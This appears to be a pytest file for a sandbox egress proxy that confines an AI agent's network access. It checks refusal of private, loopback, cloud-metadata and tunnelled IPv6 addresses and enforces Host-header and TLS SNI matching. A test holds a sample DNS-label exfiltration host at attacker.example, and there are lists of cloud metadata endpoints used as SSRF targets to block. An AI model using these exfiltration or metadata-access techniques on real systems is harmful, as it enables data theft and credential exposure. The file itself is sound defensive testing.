"""The egress policy's decisions (pure) and the egress proxy over a real unix socket."""

from __future__ import annotations

import ipaddress
import socket
import ssl
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from bot.sandbox import EgressPolicy
from bot.sandbox.egress import EgressProxy
from bot.sandbox.egress_policy import domain_matches, own_addresses
from bot.sandbox.egress_wire import ACCESS_DENIED
from tests.fakes.http import stop_server
from tests.fakes.internet import FakeUpstream
from tests.support.egress import connect

OFF = EgressPolicy()
INTERNET = EgressPolicy(internet=True)
LOOPBACK = ("127.0.0.0/8", "::1/128")


def refusal(policy: EgressPolicy, host: str, *addresses: str, own: tuple[str, ...] = ()) -> str | None:
    """What the proxy decides for `host` resolving to `addresses`: None (allowed) or the reason."""
    reason = policy.refuse_name(host)
    owned = frozenset(ipaddress.ip_address(a) for a in own)
    for address in addresses:
        reason = reason or policy.refuse_address(ipaddress.ip_address(address), owned)
    return reason


# --- the policy ------------------------------------------------------------------------------


@pytest.mark.parametrize("address, why", [
    ("10.1.2.3", "private"), ("172.16.0.1", "private"), ("172.31.255.255", "private"), ("192.168.1.1", "private"),
    ("100.64.0.1", "carrier-grade NAT"), ("fd12:3456::1", "unique local"), ("fc00::1", "unique local"),
    ("224.0.0.251", "multicast"), ("ff02::1", "multicast"), ("240.0.0.1", "reserved"),
    ("255.255.255.255", "reserved"), ("::ffff:10.0.0.1", "private"), ("64:ff9b::a00:1", "private"),
    ("::808:808", "IPv4-compatible"), ("::a00:1", "private"),
])
def test_the_internet_never_includes_the_deny_list(address: str, why: str) -> None:
    reason = refusal(INTERNET, address, address)
    assert reason is not None and why in reason and "allow_cidrs" in reason


@pytest.mark.parametrize("address", [
    "127.0.0.1", "127.1.2.3", "::1", "0.0.0.0", "::", "169.254.169.254", "fe80::1", "::ffff:127.0.0.1",
    "::ffff:169.254.169.254", "2002:a9fe:a9fe::1",
])
def test_loopback_and_link_local_are_refused_even_when_allow_cidrs_lists_everything(address: str) -> None:
    everything = EgressPolicy(internet=True, allow_cidrs=("0.0.0.0/0", "::/0"))
    reason = refusal(everything, address, address)
    assert reason is not None and "never reachable" in reason
    assert "never reachable" in refusal(everything, "me", "198.51.100.1", own=("198.51.100.1",))


@pytest.mark.parametrize("address", [
    "198.51.100.10", "192.0.2.1", "203.0.113.7",  # documentation ranges: `is_private` would call them private
    "8.8.8.8", "140.82.112.3", "172.32.0.1", "100.128.0.1", "2606:4700::1111", "::ffff:8.8.8.8",
])
def test_the_internet_is_every_other_address(address: str) -> None:
    assert refusal(INTERNET, address, address) is None


def test_the_hosts_own_addresses_are_refused_even_when_public() -> None:
    reason = refusal(INTERNET, "myhost.example", "198.51.100.1", own=("198.51.100.1",))
    assert reason is not None and "an address of the machine running the sandbox" in reason
    assert refusal(INTERNET, "::ffff:198.51.100.1", "::ffff:198.51.100.1", own=("198.51.100.1",)) is not None


def test_every_address_a_name_resolves_to_must_pass() -> None:
    reason = refusal(INTERNET, "rebind.example", "198.51.100.10", "10.0.0.1")
    assert reason is not None and "private" in reason


def test_the_default_policy_reaches_nothing() -> None:
    reason = refusal(OFF, "packages.example.com", "151.101.0.223")
    assert reason == "network is off for the agent: set network: true or allow_domains in .github/decode.yml"
    assert refusal(OFF, "198.51.100.10", "198.51.100.10") is not None


def test_allow_cidrs_opens_exactly_those_ranges() -> None:
    private = EgressPolicy(allow_cidrs=("10.77.0.0/24",))
    assert refusal(private, "10.77.0.10", "10.77.0.10") is None
    assert "is a name, which is not looked up" in (refusal(private, "build-cache.internal", "10.77.0.5") or ""), \
        "with network off, allow_cidrs opens addresses: a name is refused before any lookup"
    assert refusal(private, "::ffff:10.77.0.10", "::ffff:10.77.0.10") is None
    assert "network is off" in (refusal(private, "10.78.0.1", "10.78.0.1") or "")
    assert "network is off" in (refusal(private, "198.51.100.10", "198.51.100.10") or "")
    both = EgressPolicy(internet=True, allow_cidrs=("10.77.0.0/24",))
    assert refusal(both, "10.77.0.10", "10.77.0.10") is None and refusal(both, "8.8.8.8", "8.8.8.8") is None
    assert "private" in (refusal(both, "10.78.0.1", "10.78.0.1") or "")


def test_allow_domains_limits_names_and_ip_literals() -> None:
    policy = EgressPolicy(internet=True, allow_domains=("*.github.com", "packages.example.com"))
    assert refusal(policy, "api.github.com", "140.82.112.6") is None
    assert refusal(policy, "Packages.Example.com.", "151.101.0.223") is None
    assert "not in allow_domains: add it to allow_domains" in (refusal(policy, "github.com") or "")
    assert "not in allow_domains" in (refusal(policy, "evilgithub.com") or "")
    assert "allow_domains lets only names through" in (refusal(policy, "140.82.112.6") or "")
    assert "loopback" in (refusal(policy, "api.github.com", "127.0.0.1") or ""), "the addresses still count"
    with_cidrs = EgressPolicy(allow_domains=("packages.example.com",), allow_cidrs=("10.0.0.0/8",))
    assert refusal(with_cidrs, "10.1.2.3", "10.1.2.3") is None
    assert refusal(with_cidrs, "packages.example.com", "151.101.0.223") is None, "a listed name needs no `internet`"


@pytest.mark.parametrize("pattern, host, matches", [
    ("*.example.com", "a.example.com", True), ("*.example.com", "a.b.example.com", True),
    ("*.example.com", "example.com", False), ("*.example.com", "badexample.com", False),
    ("example.com", "example.com", True), ("example.com", "www.example.com", False),
    ("*", "anything.at.all", True), ("Example.COM", "example.com.", True),
])
def test_domain_patterns(pattern: str, host: str, matches: bool) -> None:
    assert domain_matches(pattern, host) is matches


def test_a_cidr_that_does_not_parse_is_an_error_at_once() -> None:
    with pytest.raises(ValueError, match="10.0.0.0/33"):
        EgressPolicy(allow_cidrs=("10.0.0.0/33",))


def test_own_addresses_come_from_proc() -> None:
    own = own_addresses()
    assert ipaddress.ip_address("127.0.0.1") in own
    host = socket.gethostbyname(socket.gethostname())
    assert ipaddress.ip_address(host) in own or host.startswith("127.")


# --- the proxy -------------------------------------------------------------------------------


class Recorder(BaseHTTPRequestHandler):
    """Answers "origin" and records each request line and headers on the server."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        self.server.seen.append((self.requestline, dict(self.headers)))  # type: ignore[attr-defined]
        body = b"origin\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def origin() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.daemon_threads = True
    server.seen = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield server
    stop_server(server)


@pytest.fixture
def proxy(tmp_path: Path) -> Iterator[EgressProxy]:
    egress = EgressProxy(tmp_path / "proxy.sock", EgressPolicy(internet=True, allow_cidrs=LOOPBACK), guard_host=False)
    yield egress
    egress.close()


def ask(proxy: EgressProxy, request: bytes) -> socket.socket:
    """Connect to the proxy's socket (through /proc/self/fd when its path is too long) and send `request`."""
    sock = connect(proxy)
    sock.sendall(request)
    return sock


def read_all(sock: socket.socket) -> bytes:
    data = b""
    while chunk := sock.recv(65536):
        data += chunk
    sock.close()
    return data


def read_head(sock: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(1)
        if not chunk:
            break
        data += chunk
    return data


def test_connect_opens_a_tunnel_to_an_allowed_address(proxy: EgressProxy, origin: ThreadingHTTPServer) -> None:
    port = origin.server_address[1]
    sock = ask(proxy, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
    assert read_head(sock) == b"HTTP/1.1 200 Connection established\r\n\r\n"
    sock.sendall(b"GET /through HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert read_all(sock).endswith(b"\r\n\r\norigin\n")
    assert origin.seen[0][0] == "GET /through HTTP/1.1"  # type: ignore[attr-defined]
    assert proxy.blocked() == {}


def test_plain_http_is_forwarded_in_origin_form(proxy: EgressProxy, origin: ThreadingHTTPServer) -> None:
    port = origin.server_address[1]
    sock = ask(proxy, (f"GET http://127.0.0.1:{port}/path?q=1 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                       "Proxy-Connection: keep-alive\r\nProxy-Authorization: Basic eA==\r\n"
                       "X-Kept: yes\r\n\r\n").encode())
    reply = read_all(sock)
    assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"origin\n")
    line, headers = origin.seen[0]  # type: ignore[attr-defined]
    assert line == "GET /path?q=1 HTTP/1.1"
    assert headers["X-Kept"] == "yes" and headers["Connection"] == "close"
    assert "Proxy-Connection" not in headers and "Proxy-Authorization" not in headers


def test_a_name_is_checked_before_it_is_resolved(proxy: EgressProxy, origin: ThreadingHTTPServer) -> None:
    port = origin.server_address[1]
    proxy.policy = EgressPolicy(allow_domains=("localhost",), allow_cidrs=LOOPBACK)
    reply = read_all(ask(proxy, f"GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()))
    assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"origin\n")
    reply = read_all(ask(proxy, b"CONNECT does-not-exist.invalid:443 HTTP/1.1\r\n\r\n"))
    assert reply.startswith(b"HTTP/1.1 403 Forbidden")
    assert reply.endswith(b"blocked does-not-exist.invalid:443: does-not-exist.invalid is not in allow_domains: "
                          b"add it to allow_domains in .github/decode.yml\n")
    assert proxy.blocked() == {"does-not-exist.invalid:443": 1}


def test_blocked_attempts_are_counted_until_the_policy_changes(
    proxy: EgressProxy, origin: ThreadingHTTPServer
) -> None:
    port = origin.server_address[1]
    proxy.policy = INTERNET
    for _ in range(3):
        reply = read_all(ask(proxy, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode()))
        assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n")
        assert b"127.0.0.1 is loopback (127.0.0.0/8): list it in allow_cidrs" in reply
    read_all(ask(proxy, b"GET http://[::1]:9/ HTTP/1.1\r\n\r\n"))
    assert proxy.blocked() == {f"127.0.0.1:{port}": 3, "[::1]:9": 1}
    assert origin.seen == []  # type: ignore[attr-defined]
    proxy.policy = EgressPolicy(internet=True, allow_cidrs=("127.0.0.1/32",))
    assert proxy.blocked() == {}
    sock = ask(proxy, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
    assert read_head(sock).startswith(b"HTTP/1.1 200")


def test_a_policy_change_cuts_open_tunnels(proxy: EgressProxy, origin: ThreadingHTTPServer) -> None:
    port = origin.server_address[1]
    sock = ask(proxy, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
    assert read_head(sock).startswith(b"HTTP/1.1 200")
    proxy.policy = OFF
    assert sock.recv(1) == b"", "the tunnel made under the old policy is closed"


def test_malformed_oversized_and_unreachable_requests_get_an_answer(proxy: EgressProxy) -> None:
    assert read_all(ask(proxy, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")).startswith(b"HTTP/1.1 400")
    assert read_all(ask(proxy, b"GET ftp://x/ HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 400")
    assert read_all(ask(proxy, b"CONNECT x HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 400")
    big = b"GET http://127.0.0.1/ HTTP/1.1\r\nX: " + b"a" * (70 * 1024)
    assert read_all(ask(proxy, big)).startswith(b"HTTP/1.1 431")
    closed = socket.create_server(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    reply = read_all(ask(proxy, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode()))
    assert reply.startswith(b"HTTP/1.1 502") and b"could not connect" in reply


def test_connections_beyond_the_cap_are_turned_away(tmp_path: Path, origin: ThreadingHTTPServer) -> None:
    class Small(EgressProxy):
        MAX_CONNECTIONS = 1

    egress = Small(tmp_path / "small.sock", EgressPolicy(internet=True, allow_cidrs=LOOPBACK), guard_host=False)
    try:
        port = origin.server_address[1]
        held = ask(egress, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
        assert read_head(held).startswith(b"HTTP/1.1 200")
        assert read_all(ask(egress, b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 503")
        held.close()
        deadline = time.monotonic() + 5
        while True:
            sock = ask(egress, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
            if read_head(sock).startswith(b"HTTP/1.1 200") or time.monotonic() > deadline:
                break
        assert time.monotonic() <= deadline, "the slot came back"
    finally:
        egress.close()


def test_a_private_dir_is_0700_and_close_removes_it_and_cuts_tunnels(
    tmp_path: Path, origin: ThreadingHTTPServer
) -> None:
    deep = tmp_path / ("d" * 60) / ("e" * 60)  # longer than a unix socket address may be
    deep.mkdir(parents=True)
    egress = EgressProxy.in_private_dir(deep, EgressPolicy(internet=True, allow_cidrs=LOOPBACK), guard_host=False)
    assert egress.directory.parent == deep and egress.directory.stat().st_mode & 0o777 == 0o700
    assert len(str(egress.path)) > 108 and egress.path.is_socket()
    sock = ask(egress, f"CONNECT 127.0.0.1:{origin.server_address[1]} HTTP/1.1\r\n\r\n".encode())
    assert read_head(sock).startswith(b"HTTP/1.1 200")
    egress.close()
    assert sock.recv(1) == b""
    assert not egress.directory.exists()
    egress.close()  # twice is fine


# --- refusals before any lookup or connection (lookups and connections through FakeUpstream) ---------------

TEREDO_ALIBABA = "2001:0:c633:6401::9b9b:9b37"  # Teredo: server 198.51.100.1, client 100.100.100.200
TEREDO_PRIVATE = "2001:0:c633:6401::f5ff:fffe"  # Teredo: client 10.0.0.1


@pytest.fixture
def fake_upstream(origin: ThreadingHTTPServer) -> FakeUpstream:
    """Lookups answer from a table, and every connection lands on `origin`: nothing leaves the machine."""
    return FakeUpstream(origin.server_address[1], {"allowed.example": ["198.51.100.10"],
                                                    "other.example": ["198.51.100.20"]})


@pytest.fixture
def guarded(tmp_path: Path, fake_upstream: FakeUpstream) -> Iterator[EgressProxy]:
    """A proxy as the launchers run it (every host refusal on), over the fake upstream."""
    egress = EgressProxy(tmp_path / "guarded.sock", OFF, upstream=fake_upstream)
    yield egress
    egress.close()


def test_with_network_off_a_name_is_refused_before_any_lookup(guarded: EgressProxy, fake_upstream: FakeUpstream,
                                                              origin: ThreadingHTTPServer) -> None:
    exfil = "c2vjcmv0.attacker.example"  # data in a DNS label
    for policy in (OFF, EgressPolicy(allow_cidrs=("198.51.100.0/24",))):
        guarded.policy = policy
        for request in (f"GET http://{exfil}/ HTTP/1.1\r\nHost: {exfil}\r\n\r\n",
                        f"CONNECT {exfil}:443 HTTP/1.1\r\n\r\n"):
            reply = read_all(ask(guarded, request.encode()))
            assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n"), reply
            assert b"network is off for the agent" in reply and b"allow_domains" in reply
        assert guarded.blocked() == {f"{exfil}:80": 1, f"{exfil}:443": 1}
    assert fake_upstream.looked_up == [] and fake_upstream.connected == []
    reply = read_all(ask(guarded, b"GET http://198.51.100.10/who HTTP/1.1\r\nHost: 198.51.100.10\r\n\r\n"))
    assert reply.startswith(b"HTTP/1.1 200") and fake_upstream.connected == [("198.51.100.10", 80)], \
        "allow_cidrs still opens its addresses"
    assert origin.seen[0][0] == "GET /who HTTP/1.1"  # type: ignore[attr-defined]


@pytest.mark.parametrize("target", [
    "169.254.169.254", "[fd00:ec2::254]", "[fd00:ec2::253]", "100.100.100.200", "168.63.129.16", "192.0.0.192",
    "[fd20:ce::254]", "[::ffff:100.100.100.200]", "[::ffff:0:a9fe:a9fe]", "[64:ff9b::6464:64c8]",
    "[64:ff9b:1:a9fe:a9:fe00::]", f"[{TEREDO_ALIBABA}]", "[2002:a83f:8110::1]", "metadata.example",
])
def test_metadata_is_never_reached_whatever_allow_cidrs_says(
    tmp_path: Path, fake_upstream: FakeUpstream, origin: ThreadingHTTPServer, target: str
) -> None:
    fake_upstream.names["metadata.example"] = ["fd00:ec2::254"]
    everything = EgressPolicy(internet=True, allow_cidrs=("0.0.0.0/0", "::/0"))
    for guard_host in (True, False):  # the test-only mode without host refusals still refuses metadata
        egress = EgressProxy(tmp_path / f"m{guard_host}.sock", everything, guard_host=guard_host,
                             upstream=fake_upstream)
        try:
            reply = read_all(ask(egress, f"GET http://{target}/latest/ HTTP/1.1\r\n\r\n".encode()))
        finally:
            egress.close()
        assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n") and b"which is never reachable" in reply, reply
    assert fake_upstream.connected == [] and origin.seen == []  # type: ignore[attr-defined]


@pytest.mark.parametrize("target, why", [
    ("198.18.0.1", "benchmarking"), ("198.19.255.1", "benchmarking"), ("192.0.0.8", "IETF protocol assignments"),
    ("[::ffff:0:a00:1]", "private"), ("[64:ff9b:1::a00:1]", "private"),
    ("[64:ff9b:1:c633:64:a00::]", "local-use NAT64"),
    (f"[{TEREDO_PRIVATE}]", "private"), ("[2001:0:c633:6401::39cc:9bf5]", "Teredo"), ("[2002:c633:640a::1]", "6to4"),
])
def test_special_ranges_and_the_ipv4_they_carry_are_not_public(
    guarded: EgressProxy, fake_upstream: FakeUpstream, target: str, why: str
) -> None:
    guarded.policy = INTERNET
    reply = read_all(ask(guarded, f"CONNECT {target}:443 HTTP/1.1\r\n\r\n".encode()))
    assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n") and why.encode() in reply and b"allow_cidrs" in reply, reply
    assert fake_upstream.connected == []


def test_plain_http_must_name_the_checked_host_in_its_host_header(
    guarded: EgressProxy, fake_upstream: FakeUpstream, origin: ThreadingHTTPServer
) -> None:
    guarded.policy = EgressPolicy(allow_domains=("allowed.example",))
    for headers, rule in (("Host: other.example\r\n", b"the Host header names 'other.example', not allowed.example"),
                          ("Host: allowed.example\r\nHost: other.example\r\n", b"2 Host headers")):
        reply = read_all(ask(guarded, f"GET http://allowed.example/ HTTP/1.1\r\n{headers}\r\n".encode()))
        assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n") and rule in reply, reply
    assert fake_upstream.connected == [] and guarded.blocked() == {"allowed.example:80": 2}
    reply = read_all(ask(guarded, b"GET http://allowed.example/x HTTP/1.1\r\nHost: Allowed.Example:80\r\n\r\n"))
    assert reply.startswith(b"HTTP/1.1 200")
    assert origin.seen[0][1]["Host"] == "Allowed.Example:80"  # type: ignore[attr-defined]


def client_hello(server_name: str | None) -> bytes:
    """The ClientHello a real TLS client (Python's ssl) sends, naming `server_name` (None: no SNI)."""
    context = ssl.create_default_context()
    context.check_hostname = server_name is not None
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


@pytest.fixture
def sink() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on loopback that records the first bytes of each connection: (port, received)."""
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                received.append(conn.recv(65536))

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], received
    server.close()


def test_a_tunnel_allowed_by_name_must_carry_that_name_in_its_tls_server_name(
    tmp_path: Path, sink: tuple[int, list[bytes]]
) -> None:
    port, received = sink
    upstream = FakeUpstream(port, {"allowed.example": ["198.51.100.10"]})
    egress = EgressProxy(tmp_path / "sni.sock", EgressPolicy(allow_domains=("allowed.example",)), upstream=upstream)
    try:
        for hello, answer in ((client_hello("other.example"), ACCESS_DENIED), (client_hello(None), ACCESS_DENIED),
                              (b"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n", b"HTTP/1.1 403 Forbidden\r\n")):
            sock = ask(egress, b"CONNECT allowed.example:443 HTTP/1.1\r\n\r\n")
            assert read_head(sock) == b"HTTP/1.1 200 Connection established\r\n\r\n"
            sock.sendall(hello)
            assert read_all(sock).startswith(answer)
        assert upstream.connected == [] and egress.blocked() == {"allowed.example:443": 3}
        hello = client_hello("allowed.example")
        sock = ask(egress, b"CONNECT allowed.example:443 HTTP/1.1\r\n\r\n")
        assert read_head(sock).startswith(b"HTTP/1.1 200")
        sock.sendall(hello[:7])  # a ClientHello may arrive in pieces
        time.sleep(0.1)
        sock.sendall(hello[7:])
        deadline = time.monotonic() + 5
        while not received and time.monotonic() < deadline:
            time.sleep(0.02)
        sock.close()
        assert received == [hello] and upstream.connected == [("198.51.100.10", 443)], "forwarded unchanged"
    finally:
        egress.close()
